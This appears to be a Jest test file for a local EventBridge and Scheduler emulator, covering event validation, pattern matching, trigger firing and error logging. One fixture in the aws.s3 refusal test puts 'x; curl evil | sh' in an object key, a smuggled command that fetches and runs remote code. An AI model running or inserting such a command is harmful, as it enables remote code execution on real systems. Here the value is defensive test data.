/**
 * The local EventBridge and Scheduler: what they fire, and that a firing which fails in the background reaches
 * the logger with the names and ids involved instead of vanishing.
 */
import { NotFoundError, TransientError, ValidationError } from '../../src/errors';
import { LocalServiceError } from '../../src/local/errors';
import { LocalEventBus } from '../../src/local/events';
import { LocalScheduler } from '../../src/local/scheduler';
import { logger } from '../../src/util/logger';
import { thrown } from '../support/thrown';

const CONFIG = {
  account: '123456789012',
  region: 'eu-west-1',
  triggers: [
    { name: 'orders', eventPattern: { source: ['com.example.orders'], 'detail-type': ['Object Created'] } },
    { name: 'other', eventPattern: { source: ['other'] } },
    // Only S3 may publish aws.s3 events: no PutEvents entry can fire this one.
    { name: 'landing', eventPattern: { source: [{ prefix: { 'equals-ignore-case': 'aws.' } }] } },
  ],
};
const ORDER = { Source: 'com.example.orders', DetailType: 'Object Created', Detail: '{"object":{"key":"raw/orders.csv"}}', Time: 1_800_000_000 };

/** A bus that records what it fires. */
function recordingBus() {
  const fired: [string, Record<string, unknown>][] = [];
  const bus = new LocalEventBus(CONFIG, (name, event) => {
    fired.push([name, event]);
    return Promise.resolve();
  });
  return { bus, fired };
}

/** Lets promise callbacks scheduled so far run. */
const settle = () => new Promise((r) => setImmediate(r));


afterEach(() => jest.restoreAllMocks());

describe('the local EventBridge', () => {
  it('makes each entry an event and fires the triggers whose pattern matches it', async () => {
    const fired: [string, Record<string, unknown>][] = [];
    const bus = new LocalEventBus(CONFIG, (name, event) => {
      fired.push([name, event]);
      return Promise.resolve();
    });
    const answer = bus.putEvents({ Entries: [ORDER, { Source: 'elsewhere', DetailType: 'x', Detail: '{}' }] });
    await settle();
    expect(answer.FailedEntryCount).toBe(0);
    expect(fired).toEqual([
      ['orders', { version: '0', id: answer.Entries[0]!.EventId, 'detail-type': 'Object Created', source: 'com.example.orders', account: CONFIG.account, time: '2027-01-15T08:00:00Z', region: CONFIG.region, resources: [], detail: { object: { key: 'raw/orders.csv' } } }],
    ]);
    expect(answer.Entries).toHaveLength(2);
  });

  it.each<[string, unknown]>([
    ['no entries', []],
    ['eleven entries', Array.from({ length: 11 }, () => ORDER)],
    ['Entries that are not a list', 'not a list'],
  ])('refuses PutEvents with %s', (_case, entries) => {
    const error = thrown(() => new LocalEventBus(CONFIG, () => Promise.resolve()).putEvents({ Entries: entries }));
    expect(error).toBeInstanceOf(LocalServiceError);
    expect(error).toMatchObject({ type: 'ValidationException', status: 400, message: 'Entries must have between 1 and 10 members.' });
  });

  it('refuses aws.* sources per entry, as AWS does (only AWS services publish them), and fires nothing for them', async () => {
    const { bus, fired } = recordingBus();
    const s3 = { Source: 'aws.s3', DetailType: 'Object Created', Detail: '{"bucket":{"name":"landing-bucket"},"object":{"key":"x; curl evil | sh"}}' };
    const answer = bus.putEvents({ Entries: [s3, ORDER, { ...s3, Source: 'AWS.S3' }] });
    await settle();
    const refused = { ErrorCode: 'NotAuthorizedForSourceException', ErrorMessage: 'Not authorized for the source.' };
    expect(answer).toEqual({ FailedEntryCount: 2, Entries: [refused, { EventId: expect.any(String) }, refused] });
    expect(fired.map(([name]) => name)).toEqual(['orders']);
  });

  it.each(['{"object":', '[1, 2]', '"a string"', '42', 'null', ''])('refuses a Detail that is not a JSON object (%j) per entry: MalformedDetail', async (detail) => {
    const { bus, fired } = recordingBus();
    const answer = bus.putEvents({ Entries: [{ ...ORDER, Detail: detail }] });
    await settle();
    expect(answer).toEqual({ FailedEntryCount: 1, Entries: [{ ErrorCode: 'MalformedDetail', ErrorMessage: 'Detail is malformed.' }] });
    expect(fired).toEqual([]);
  });

  it('refuses an entry whose Time or Resources are not what the API takes', () => {
    const { bus } = recordingBus();
    expect(bus.putEvents({ Entries: [{ ...ORDER, Time: 'soon' }, { ...ORDER, Resources: 'arn:aws:s3:::b' }] })).toEqual({
      FailedEntryCount: 2,
      Entries: [
        { ErrorCode: 'InvalidArgument', ErrorMessage: 'Parameter Time is not valid.' },
        { ErrorCode: 'InvalidArgument', ErrorMessage: 'Parameter Resources is not valid.' },
      ],
    });
  });

  it.each(['Source', 'DetailType', 'Detail'] as const)('refuses an entry without %s per entry: InvalidArgument', (field) => {
    const { bus } = recordingBus();
    const { [field]: _omitted, ...entry } = ORDER;
    expect(bus.putEvents({ Entries: [entry, ORDER] })).toEqual({
      FailedEntryCount: 1,
      Entries: [{ ErrorCode: 'InvalidArgument', ErrorMessage: `Parameter ${field} is not valid. Reason: ${field} is a required argument.` }, { EventId: expect.any(String) }],
    });
  });

  it("fires a trigger by name only with an event its pattern matches, as its rule would deliver it: a 400 naming what differs", async () => {
    const { bus, fired } = recordingBus();
    await expect(bus.fireTrigger('orders', { source: 'com.example.orders', 'detail-type': 'Object Deleted' })).rejects.toMatchObject({
      type: 'EventPatternMismatch',
      status: 400,
      message: `the event does not match trigger orders's event pattern: detail-type is "Object Deleted", the pattern wants ["Object Created"]`,
    });
    await expect(bus.fireTrigger('orders', { 'detail-type': 'Object Created' })).rejects.toMatchObject({ message: expect.stringMatching(/: source is missing, the pattern wants \["com\.example\.orders"\]$/) });
    expect(fired).toEqual([]);
  });

  it('logs a trigger that fails in the background, with the trigger and the event id', async () => {
    const error = new Error('the jobs table is unavailable');
    const logged = jest.spyOn(logger, 'error').mockImplementation(() => undefined);
    const bus = new LocalEventBus(CONFIG, () => Promise.reject(error));
    const { Entries } = bus.putEvents({ Entries: [ORDER] });
    await settle();
    expect(logged).toHaveBeenCalledTimes(1);
    expect(logged).toHaveBeenCalledWith('local EventBridge: a trigger failed', expect.objectContaining({ trigger: 'orders', eventId: Entries[0]!.EventId, error }));
  });

  it("fires one trigger by name, giving the event an id if it has none, and answers the gateway's refusals with their statuses", async () => {
    const events: Record<string, unknown>[] = [];
    const outcome = { outcome: 'submitted' };
    const ok = new LocalEventBus(CONFIG, (_name, event) => {
      events.push(event);
      return Promise.resolve(outcome);
    });
    const order = { source: 'com.example.orders', 'detail-type': 'Object Created' };
    await expect(ok.fireTrigger('orders', { ...order, detail: {} })).resolves.toBe(outcome);
    expect(events[0]).toEqual({ id: expect.any(String), ...order, detail: {} });
    await ok.fireTrigger('orders', { id: 'e-1', ...order });
    expect(events[1]).toEqual({ id: 'e-1', ...order });

    const failing = (error: Error) => new LocalEventBus(CONFIG, () => Promise.reject(error)).fireTrigger('orders', order);
    await expect(failing(new NotFoundError('no trigger named orders'))).rejects.toMatchObject({ type: 'NotFound', status: 404, message: 'no trigger named orders' });
    await expect(failing(ValidationError.single('event.id', 'an EventBridge event has an id'))).rejects.toMatchObject({ type: 'ValidationError', status: 400 });
    await expect(failing(new TransientError('DynamoDB PutItem: ThrottlingException'))).rejects.toMatchObject({ type: 'Gateway.Transient', status: 500 });
    const unexpected = new TypeError('a bug');
    await expect(failing(unexpected)).rejects.toBe(unexpected); // the AWS port answers it as an internal error
  });
});

describe('the local Scheduler', () => {
  it('logs a schedule whose firing fails, with the schedule and its time, and keeps firing it', async () => {
    jest.useFakeTimers({ now: new Date('2026-11-28T10:02:30Z') });
    const logged = jest.spyOn(logger, 'error').mockImplementation(() => undefined);
    const error = new Error('the gateway is down');
    const times: string[] = [];
    const scheduler = new LocalScheduler([{ name: 'five', schedule: 'rate(5 minutes)' }], (_name, time) => {
      times.push(time);
      return Promise.reject(error);
    });
    try {
      await jest.advanceTimersByTimeAsync(8 * 60_000);
    } finally {
      scheduler.stop();
      jest.useRealTimers();
    }
    expect(times).toEqual(['2026-11-28T10:05:00.000Z', '2026-11-28T10:10:00.000Z']);
    expect(logged.mock.calls).toEqual(times.map((scheduledTime) => ['local scheduler: a schedule failed', { schedule: 'five', scheduledTime, error }]));
  });
});
